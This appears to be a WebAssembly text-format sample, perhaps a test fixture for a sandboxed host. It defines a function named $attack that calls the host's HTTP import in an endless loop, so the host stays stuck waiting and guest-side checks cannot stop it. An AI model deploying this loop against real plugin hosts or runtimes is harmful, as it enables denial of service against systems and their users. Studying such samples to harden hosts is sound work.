;; Asks the host to wait, again and again: the config is the request, to a server that takes its time. While the host
;; waits no guest code runs, so nothing that is checked in guest code can stop it.

(func $attack (param $config i32) (param $config_length i32)
  (loop $forever
    (drop
      (call $http_request
        (local.get $config) (local.get $config_length) (i32.const 0x10000) (i32.const 0x8000)))
    (br $forever)))
